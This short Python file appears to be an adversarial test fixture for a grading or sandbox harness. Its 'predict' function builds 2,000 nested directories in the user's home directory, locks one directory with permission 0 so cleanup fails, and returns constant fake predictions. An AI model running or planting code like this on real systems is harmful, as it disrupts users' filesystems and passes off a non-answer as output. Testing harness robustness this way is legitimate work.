"""Digs folders so deep, and closes them so tightly, that clearing up after it fails."""

import os

CHECK = "label"
WORDS = "where only"


def predict(frame, aim):
    os.chdir(os.environ["HOME"])
    for _ in range(2_000):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(os.environ["HOME"])
    os.mkdir("closed")
    os.mkdir("closed/inside")
    os.chmod("closed", 0)
    return [7] * len(frame)
